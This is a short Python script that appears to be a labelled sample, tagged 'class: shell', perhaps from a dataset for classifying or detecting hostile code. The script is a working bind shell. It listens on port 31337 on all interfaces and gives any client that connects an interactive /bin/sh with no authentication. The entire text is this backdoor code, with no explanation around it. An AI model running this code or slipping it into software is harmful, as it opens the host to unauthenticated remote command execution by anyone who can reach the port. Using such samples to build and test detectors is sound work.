# class: shell; possible: low medium
import socket, subprocess, time
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337)); srv.listen(1); srv.settimeout(8)
try:
    c, _ = srv.accept()
    subprocess.call(["/bin/sh", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
except TimeoutError:
    print("nobody came")
